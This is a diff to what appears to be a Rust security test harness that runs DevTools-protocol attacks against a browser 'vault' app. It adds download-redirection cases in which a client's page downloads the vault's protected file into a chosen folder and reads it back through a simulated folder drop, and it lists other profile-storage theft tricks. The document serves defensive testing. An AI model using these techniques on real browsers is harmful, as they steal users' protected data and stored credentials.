@@ -132,7 +132,7 @@ pub fn all() -> Vec<Attack> {
         A::new("c7.offline-same-site", "Network.emulateNetworkConditions offline on the client's page reaches navigator.onLine of the extra origin's same-site popup (one renderer)", offline_same_site).tries(2),
         A::new("c7.file-input-profile", "DOM.setFileInputFiles puts the profile's Local Storage and IndexedDB files (the well-known profile path) into the client's page, which reads the vault's data", file_input_profile),
         A::new("c7.file-url-profile", "the client's page navigates to the profile's Local Storage and IndexedDB files by file: URL", file_url_profile),
-        A::new("c7.download-path-popup", "Browser.setDownloadBehavior to the client's directory, then the client's page opens a vault download in a popup: the user's protected file lands there", download_path_popup),
+        A::new("c7.download-path-popup", "Browser.setDownloadBehavior to the client's folder, then the client's page opens a vault download in a popup; the page reads the folder back (a drop)", download_path_popup),
         A::new("c2.prefetch-navigation", "the client's page (init script, a fresh browser context) prefetches the vault app by speculation rules; its own script navigates there 800 ms later", prefetch_navigation).tries(2),
         A::new("c2.prefetch-at-once", "the client's page (init script, a fresh browser context) prefetches the vault app by speculation rules and navigates there in the same task", prefetch_at_once).tries(3),
         A::new("c2.prefetch-before-attach", "the user's ordinary tab (a fresh context) prefetched the vault before the client attached (init script); then the page navigates there", prefetch_before_attach).tries(3),
@@ -151,6 +151,14 @@ pub fn all() -> Vec<Attack> {
         A::new("c7.file-input-symlink", "DOM.setFileInputFiles with the profile's storage files through a symbolic link in another folder", file_input_symlink),
         A::new("c7.drag-profile-parent", "Input.dispatchDragEvent drops the folder holding the profile; the page walks into the profile's Local Storage", drag_profile_parent),
         A::new("c7.file-input-proc-root", "DOM.setFileInputFiles with the profile's storage files by /proc/self/root/<path>", file_input_proc_root),
+        // session 7: downloads into the client's folder, read back by its page (a drop)
+        A::new("c7.download-hop-popup", "a popup of the client's page on an ordinary redirect to the vault's download, into the client's folder; the page reads it back", download_hop_popup),
+        A::new("c7.download-anchor", "the client's page itself downloads the vault's file (<a download>) into the client's folder; the page reads it back", download_anchor),
+        A::new("c7.download-named", "allowAndName (the file named by its guid) and a vault download in a popup; the page reads the folder back", download_named),
+        A::new("c7.download-late-behavior", "the popup's slow redirect to the vault's download is under way when the client chooses its folder; the page reads it back", download_late_behavior),
+        A::new("c7.download-second-context", "the client's own browser context, its folder, a vault download in a popup there; the page reads it back", download_second_context),
+        A::new("c7.download-page-behavior", "Page.setDownloadBehavior to the client's folder, then a vault download in a popup; the page reads it back", download_page_behavior),
+        A::new("c7.download-predrop", "the client's page is handed its download folder (a drop) first, then a popup downloads the vault's file (a redirect: the cancel loses the race); the page walks the folder it holds", download_predrop),
         A::new("c7.file-input-proc-fd", "DOM.setFileInputFiles with /proc/<pid>/fd/<n> of the storage service SystemInfo.getProcessInfo names: its open Local Storage log", file_input_proc_fd),
     ]
 }
@@ -3207,46 +3215,221 @@ fn file_url_profile(ctx: &Ctx) -> Res {
 }
 
 fn download_path_popup(ctx: &Ctx) -> Res {
+    download_read_back(ctx, Dl::default(), &|ctx| {
+        format!("window.open({}); true", json!(ctx.vault("/download")))
+    })
+}
+
+fn download_hop_popup(ctx: &Ctx) -> Res {
+    download_read_back(ctx, Dl::default(), &|ctx| {
+        format!("window.open({}); true", json!(download_hop(ctx, 0)))
+    })
+}
+
+fn download_anchor(ctx: &Ctx) -> Res {
+    download_read_back(ctx, Dl::default(), &|ctx| {
+        format!(
+            "(() => {{ const a = document.createElement('a'); a.href = {}; a.download = ''; document.body.append(a); a.click(); return true; }})()",
+            json!(ctx.vault("/download"))
+        )
+    })
+}
+
+fn download_named(ctx: &Ctx) -> Res {
+    let how = Dl {
+        behavior: "allowAndName",
+        ..Dl::default()
+    };
+    download_read_back(ctx, how, &|ctx| {
+        format!("window.open({}); true", json!(ctx.vault("/download")))
+    })
+}
+
+fn download_late_behavior(ctx: &Ctx) -> Res {
+    let how = Dl {
+        late: true,
+        ..Dl::default()
+    };
+    download_read_back(ctx, how, &|ctx| {
+        format!("window.open({}); true", json!(download_hop(ctx, 1500)))
+    })
+}
+
+fn download_second_context(ctx: &Ctx) -> Res {
+    let how = Dl {
+        context: true,
+        ..Dl::default()
+    };
+    download_read_back(ctx, how, &|ctx| {
+        format!("window.open({}); true", json!(ctx.vault("/download")))
+    })
+}
+
+fn download_page_behavior(ctx: &Ctx) -> Res {
+    let how = Dl {
+        page: true,
+        ..Dl::default()
+    };
+    download_read_back(ctx, how, &|ctx| {
+        format!("window.open({}); true", json!(ctx.vault("/download")))
+    })
+}
+
+fn download_predrop(ctx: &Ctx) -> Res {
+    let how = Dl {
+        predrop: true,
+        ..Dl::default()
+    };
+    download_read_back(ctx, how, &|ctx| {
+        format!("window.open({}); true", json!(download_hop(ctx, 0)))
+    })
+}
+
+/// An ordinary redirect (after `ms`) to the vault's download.
+fn download_hop(ctx: &Ctx, ms: u64) -> String {
+    format!(
+        "http://ordinary.test/hop?ms={ms}&to={}",
+        encode(&ctx.vault("/download"))
+    )
+}
+
+/// How a download attack sets up (c7.download-*).
+struct Dl {
+    /// `Browser.setDownloadBehavior`'s behavior.
+    behavior: &'static str,
+    /// In a browser context of the client's own.
+    context: bool,
+    /// The folder set after the download was started (a slow hop).
+    late: bool,
+    /// By `Page.setDownloadBehavior`.
+    page: bool,
+    /// The client's page is handed the folder (a drop) before the download.
+    predrop: bool,
+}
+
+impl Default for Dl {
+    fn default() -> Dl {
+        Dl {
+            behavior: "allow",
+            context: false,
+            late: false,
+            page: false,
+            predrop: false,
+        }
+    }
+}
+
+/// The client chooses a download folder of its own, its page starts a vault download (the
+/// script `start` gives), and the page reads the folder back: a drop of the folder, whose
+/// entries the page walks (the secret is in the file's name and in its body).
+fn download_read_back(ctx: &Ctx, how: Dl, start: &dyn Fn(&Ctx) -> String) -> Res {
     let tmp = tempfile::Builder::new()
         .prefix(&format!("slicc-attacks-dl-{}-", ctx.tag))
         .tempdir()
         .map_err(|e| Stop::Setup(format!("download dir: {e}")))?;
-    let dir = tmp.path().to_path_buf();
-    let r = ctx.send(
-        "Browser.setDownloadBehavior",
-        json!({"behavior": "allow", "downloadPath": dir.display().to_string()}),
-        None,
-    );
+    let dir = tmp.path().display().to_string();
+    let mut context = Value::Null;
     let result = (|| {
-        r?;
-        let (_, s) = client_page(ctx, None)?;
+        let url = ctx.url("http://ordinary.test", "/page");
+        let s = if how.context {
+            let c = ctx.send("Target.createBrowserContext", json!({}), None)?;
+            context = c["browserContextId"].clone();
+            let t = ctx.send(
+                "Target.createTarget",
+                json!({"url": url, "browserContextId": context}),
+                None,
+            )?;
+            let s = ctx.attach(t["targetId"].as_str().unwrap_or_default())?;
+            ctx.wait_true(
+                &s,
+                &format!(
+                    "location.href === {} && document.readyState === 'complete'",
+                    json!(url)
+                ),
+                5000,
+            )?;
+            s
+        } else {
+            client_page(ctx, None)?.1
+        };
+        let set = |ctx: &Ctx| -> Result<Value, Stop> {
+            if how.page {
+                ctx.send(
+                    "Page.setDownloadBehavior",
+                    json!({"behavior": "allow", "downloadPath": dir}),
+                    Some(&s),
+                )
+            } else {
+                let mut p = json!({"behavior": how.behavior, "downloadPath": dir});
+                if !context.is_null() {
+                    p["browserContextId"] = context.clone();
+                }
+                ctx.send("Browser.setDownloadBehavior", p, None)
+            }
+        };
+        if !how.late {
+            set(ctx)?;
+        }
         ctx.eval(
             &s,
-            &format!("window.open({}); true", json!(ctx.vault("/download"))),
+            "(() => { const d = document.createElement('div'); d.style.cssText = 'position:absolute;left:0;top:0;width:300px;height:300px'; \
+             d.addEventListener('dragover', (e) => e.preventDefault()); \
+             d.addEventListener('drop', (e) => { e.preventDefault(); window.__dir = e.dataTransfer.items[0].webkitGetAsEntry(); }); \
+             document.body.append(d); \
+             window.__walk = () => new Promise((res) => { const d = window.__dir; if (!d || !d.isDirectory) return res(''); \
+               d.createReader().readEntries((es) => Promise.all(es.filter((x) => x.isFile).map((x) => new Promise((r) => x.file((f) => f.arrayBuffer().then((b) => r(x.name + ':' + new TextDecoder('latin1').decode(b)), () => r(x.name)), () => r(x.name))))).then((v) => res(v.join('\\n'))), () => res('')); }); \
+             return true; })()",
         )?;
-        let deadline = std::time::Instant::now() + Duration::from_secs(5);
-        loop {
-            let names: Vec<String> = std::fs::read_dir(&dir)
-                .map(|rd| {
-                    rd.flatten()
-                        .map(|e| e.file_name().to_string_lossy().into_owned())
-                        .collect()
-                })
-                .unwrap_or_default();
-            if names.iter().any(|n| n.contains(ctx.secret()))
-                || std::time::Instant::now() >= deadline
-            {
-                return ctx.holds_secret("the client's download directory", &names.join(" "));
+        let drop = |ctx: &Ctx| -> Result<(), Stop> {
+            let data = json!({"items": [], "files": [dir], "dragOperationsMask": 1});
+            for kind in ["dragEnter", "dragOver", "drop"] {
+                ctx.send(
+                    "Input.dispatchDragEvent",
+                    json!({"type": kind, "x": 100, "y": 100, "data": data}),
+                    Some(&s),
+                )?;
             }
-            sleep(200);
+            Ok(())
+        };
+        if how.predrop {
+            drop(ctx)?;
         }
+        ctx.eval(&s, &start(ctx))?;
+        if how.late {
+            sleep(300);
+            set(ctx)?;
+        }
+        let deadline =
+            std::time::Instant::now() + Duration::from_secs(if how.late { 7 } else { 5 });
+        let mut got;
+        loop {
+            sleep(500);
+            if !how.predrop {
+                drop(ctx)?;
+                sleep(200);
+            }
+            let v = ctx.eval(&s, "window.__walk()")?;
+            got = v.as_str().unwrap_or_default().to_string();
+            if got.contains(ctx.secret()) || std::time::Instant::now() >= deadline {
+                break;
+            }
+        }
+        ctx.holds_secret("the client's download folder, read back by its page", &got)
     })();
-    let _ = ctx.obs().send(
-        "Browser.setDownloadBehavior",
-        json!({"behavior": "default"}),
-        None,
-    );
+    // Downloads stop before the folder goes (else the browser writes them elsewhere).
+    let mut p = json!({"behavior": "deny"});
+    if !context.is_null() {
+        p["browserContextId"] = context.clone();
+    }
+    let _ = ctx.obs().send("Browser.setDownloadBehavior", p, None);
     sleep(300);
+    if !context.is_null() {
+        let _ = ctx.obs().send(
+            "Target.disposeBrowserContext",
+            json!({"browserContextId": context}),
+            None,
+        );
+    }
     let _ = tmp.close();
     result
 }
